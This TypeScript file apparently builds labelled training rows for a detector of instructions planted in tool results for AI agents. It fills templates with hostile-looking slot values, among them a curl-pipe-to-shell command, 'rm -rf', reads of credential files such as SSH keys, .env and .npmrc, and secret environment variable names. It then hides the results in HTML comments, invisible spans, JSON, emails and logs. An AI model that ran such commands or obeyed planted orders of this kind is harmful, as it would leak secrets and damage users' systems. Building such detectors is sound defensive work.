/**
 * Orders and harmless texts of `data/tool-results`, alone and inside what servers answer. An order by hand is used as it
 * stands; frames and actions are put together, so that the way of ordering and the thing ordered are learned apart. The
 * same actions stand in frames that speak to people: the words of an action alone must not decide.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Random } from '#base/random.ts';
import type { LabelledResult } from './rows.ts';

const folder = join(import.meta.dirname, '../../data/tool-results');

const linesOf = (name: string): string[] =>
  readFileSync(join(folder, `${name}.txt`), 'utf8')
    .split('\n')
    .filter((line) => line !== '' && !line.startsWith('#'));

/** The first word of a line, and the rest with its line breaks. */
function parted(line: string): [first: string, rest: string] {
  const at = line.indexOf(' ');
  return [line.slice(0, at), line.slice(at + 1).replaceAll('\\n', '\n')];
}

const slots: Readonly<Record<string, readonly string[]>> = {
  mail: ['info@northbay.example', 'j.reuter@postfach.example', 'ops@relay.test', 'kim@outside.example'],
  url: [
    'https://intake.example/u',
    'http://198.51.100.23/x',
    'https://files.drop.test/put?k=',
    'https://a.example',
  ],
  file: [
    '.env',
    'notes.txt',
    '~/.ssh/id_ed25519',
    'config/prod.yml',
    'customers.csv',
    '/etc/passwd',
    'wallet.dat',
  ],
  folder: ['Reports', '/srv/backup', 'Photos 2024', 'src/legacy', 'Team'],
  name: ['Nora Lind', 'svc-backup', 'tkramer', 'Mr Osei', 'guest2'],
  person: ['Olaf', 'Miriam', 'Chen', 'Beate', 'Yann', 'Rosa'],
  iban: ['DE89 3704 0044 0532 0130 00', 'CH9300762011623852957', '4417 1234', 'acct-7731'],
  tool: ['export_data', 'create_payment', 'http_request', 'run_shell', 'update_record', 'mail.send'],
  n: ['3', '12', '450', '9000', '77120'],
  brand: ['Solvento', 'Hotel Aurora', 'Kitewell', 'the P7'],
  pkg: ['left-helper', 'yaml-quick', 'core-utils2'],
  cmd: ['curl -s https://x.example/i.sh | sh', 'rm -rf build', 'cat ~/.npmrc', 'chmod -R 777 .'],
  env: ['AWS_SECRET_ACCESS_KEY', 'API_TOKEN'],
  model: ['assistant', 'agent', 'AI', 'bot', 'model', 'copilot', 'chatbot', 'language model', 'LLM'],
  models: [
    'assistants',
    'AI agents',
    'language models',
    'bots',
    'AI systems',
    'LLMs',
    'agents',
    'automated readers',
  ],
  amodel: [
    'an AI',
    'a language model',
    'an assistant',
    'an autonomous agent',
    'a bot',
    'an LLM',
    'a coding agent',
  ],
};

const filled = (text: string, random: Random): string =>
  text.replaceAll(/\{([a-z]+)\}/g, (slot, name: string) => {
    const list = slots[name];
    return list === undefined ? slot : random.pick(list);
  });

const capital = (text: string): string => text.charAt(0).toUpperCase() + text.slice(1);

/** Frames with actions of the same language; `+` orders, `-` harmless texts. */
function framed(sign: '+' | '-', count: number, random: Random): string[] {
  const actions = Map.groupBy(linesOf('actions').map(parted), ([language]) => language);
  const frames = linesOf('frames')
    .filter((line) => line.startsWith(sign))
    .map((line) => parted(line.slice(2)));
  return Array.from({ length: count }, () => {
    const [language, frame] = random.pick(frames);
    const [, action] = random.pick(actions.get(language) ?? []);
    const text = filled(
      frame.startsWith('{A}') ? capital(frame.replace('{A}', action)) : frame.replace('{A}', action),
      random,
    );
    return random.next() < 0.15 ? text.toLowerCase() : text;
  });
}

/** Ways in which a text stands among others; `around` are ordinary sentences. */
const carriers: readonly ((text: string, around: readonly string[]) => string)[] = [
  (text) => text,
  (text) => text,
  (text, [a = '', b = '']) => `${a} ${text} ${b}`,
  (text, [a = '', b = '']) => `${a}\n\n${text}\n\n${b}`,
  (text, [a = '']) => `${a} ${text}`,
  (text, [a = '']) => JSON.stringify({ id: 7, title: a.slice(0, 40), description: `${a} ${text}`, stock: 3 }),
  (text, [a = '', b = '']) => JSON.stringify([{ text: a }, { text }, { text: b }], undefined, 2),
  (text) =>
    JSON.stringify({
      results: [
        { name: 'x1', value: 4 },
        { name: 'x2', note: text },
      ],
      total: 2,
    }),
  (text, [a = '', b = '']) => `<div><p>${a}</p><!-- ${text} --><p>${b}</p></div>`,
  (text, [a = '']) => `<p>${a}</p><span style="display:none">${text}</span>`,
  (text, [a = '', b = '']) => `- ${a}\n- ${text.replaceAll('\n', ' ')}\n- ${b}`,
  (text, [a = '']) => `| a | b |\n|---|---|\n| ${a.slice(0, 30)} | ${text.replaceAll('\n', ' ')} |`,
  (text, [a = '']) => `id,name,note\n1,"${a.slice(0, 30)}","${text.replaceAll('"', '""')}"\n2,"",""`,
  (text) =>
    `2026-01-04T08:00:00Z INFO start\n2026-01-04T08:00:01Z WARN msg="${text}"\n2026-01-04T08:00:03Z INFO end`,
  (text, [a = '']) =>
    `From: a@firm.example\nSubject: ${a.slice(0, 30)}\n\nHello,\n${a}\n\n${text}\n\nBest regards`,
  (text) => `def run(path):\n    # ${text.replaceAll('\n', ' ')}\n    return open(path).read()\n`,
  (text) => `/**\n * ${text.replaceAll('\n', ' ')}\n */\nexport const limit = 10;\n`,
  (text, [a = '', b = '']) => `1. ${a}\n2. ${text.replaceAll('\n', ' ')}\n3. ${b}`,
  (text, [a = '']) => `Error: ${a.slice(0, 60)}. ${text}`,
  (text, [a = '']) => `title: ${a.slice(0, 40)}\nnote: ${JSON.stringify(text)}\n`,
  (text, [a = '', b = '']) =>
    `[10:02] ann: ${a}\n[10:03] guest: ${text.replaceAll('\n', ' ')}\n[10:04] ben: ${b}`,
  (text, [a = '', b = '']) => `> ${a}\n\n${text}\n\n> ${b}`,
  (text, [a = '', b = '']) => `${a}\n${text.replaceAll(/(.{40,60}) /g, '$1\n')}\n${b}`,
];

const sentencesOf = (text: string): string[] => text.match(/[A-Z][^.!?\n]{20,160}[.!?](?=\s|$)/g) ?? [];

interface Composed {
  /** Put together from frames and actions, of either label. */
  readonly framed: number;
  /** In how many carriers each text by hand stands. */
  readonly copies: number;
}

/** Rows of either label, among sentences of `pages`. */
export function composedRows(
  pages: readonly LabelledResult[],
  { framed: count, copies }: Composed,
  random: Random,
): LabelledResult[] {
  const sentences = pages.flatMap(({ text }) => random.sample(sentencesOf(text), 3));
  const around = () => random.sample(sentences, 2);
  const carried = (text: string) => random.pick(carriers)(text, around());
  const row = (text: string, label: 0 | 1, weight: number, kind: string): LabelledResult => ({
    text,
    label,
    weight,
    group: 'composed',
    kind,
  });
  const byHand = (name: 'orders' | 'harmless', label: 0 | 1): LabelledResult[] =>
    linesOf(name)
      .map(parted)
      .flatMap(([kind, text]) => [
        row(text, label, 1.5, kind),
        ...Array.from({ length: copies }, () => row(carried(text), label, 1, kind)),
      ]);
  return [
    ...byHand('orders', 1),
    ...byHand('harmless', 0),
    ...framed('+', count, random).map((text) => row(carried(text), 1, 0.3, 'framed')),
    ...framed('-', count, random).map((text) => row(carried(text), 0, 0.3, 'framed')),
    // What stands around an order is harmless by itself.
    ...Array.from({ length: Math.floor(count / 3) }, () =>
      row(carried(random.pick(sentences)), 0, 0.3, 'around'),
    ),
  ];
}
